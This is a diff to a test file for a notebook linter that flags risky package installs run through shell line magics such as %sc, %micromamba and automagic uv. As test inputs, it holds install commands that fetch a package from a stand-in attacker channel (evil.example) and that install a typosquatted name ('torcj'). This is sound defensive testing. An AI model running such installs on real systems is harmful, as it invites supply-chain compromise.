@@ -191,7 +191,7 @@ describe('R13-17: alias names on Python lines', () => {
 });
 
 describe('other line magics that run a shell', () => {
-  it('reads %sc var=command and automagic uv as the shell lines they run', () => {
+  it('reads %sc var=command, %micromamba and automagic uv as the shell lines they run', () => {
     expect(notebookRules(['%sc -l x=pip install torcj'])).toEqual([
       ['install-imitation-name']
     ]);
@@ -201,6 +201,10 @@ describe('other line magics that run a shell', () => {
     expect(notebookRules(['uv pip install torcj'])).toEqual([
       ['install-imitation-name']
     ]);
+    const channel = 'install -c https://evil.example/ch numpy';
+    expect(
+      notebookRules([`%micromamba ${channel}`, `micromamba ${channel}`])
+    ).toEqual([['install-index-not-allowed'], ['install-index-not-allowed']]);
     expect(notebookRules(['%sc x=ls', 'uv = 3\nuv.x', '%sc'])).toEqual([
       [],
       [],
